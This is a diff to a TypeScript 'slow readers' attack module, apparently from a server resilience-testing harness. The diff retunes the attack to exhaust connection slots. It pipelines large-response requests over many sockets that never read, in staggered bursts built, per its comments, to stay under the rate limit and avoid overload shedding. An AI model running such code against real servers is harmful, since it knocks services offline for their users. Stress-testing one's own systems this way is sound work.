@@ -1,17 +1,32 @@
+import type { Socket } from 'node:net';
 import { type Attack, addressesOf, openMany, pause } from './attack.ts';
 
-const READERS = 100;
-/** Together more than the kernel buffers for one connection. */
-const PIPELINED = 200;
+const READERS = 60;
+/**
+ * The responses, of 14 KiB each, are together more than the kernel buffers for one connection; the requests stay below
+ * the rate limit. In small bursts, which are not shed as an overload: those of the last burst keep their slots.
+ */
+const BURST = 50;
+const BURSTS = 11;
+const BURST_PERIOD_MS = 200;
+const STAGGER_MS = 250;
 const HOLD_MS = 45_000;
 
-/** Requests large responses and reads none of them. */
+/** Requests more responses than the kernel buffers, and reads none of them. */
 export const slowReaders: Attack = async ({ url, signal, count }) => {
+  const burst = 'GET /openapi.json HTTP/1.1\r\nHost: siege.example\r\n\r\n'.repeat(BURST);
+  async function request(socket: Socket): Promise<void> {
+    socket.pause();
+    for (let sent = 0; sent < BURSTS && socket.writable && !signal.aborted; sent++) {
+      socket.write(burst);
+      await pause(BURST_PERIOD_MS, signal);
+    }
+  }
   for (let round = 0; !signal.aborted; round++) {
     const sockets = await openMany(url, addressesOf(4, round, READERS), READERS);
     for (const socket of sockets) {
-      socket.pause();
-      socket.write('GET /openapi.json HTTP/1.1\r\nHost: siege.example\r\n\r\n'.repeat(PIPELINED));
+      void request(socket);
+      await pause(STAGGER_MS, signal);
     }
     await pause(HOLD_MS, signal);
     // Only a socket that reads notices that its peer has closed.
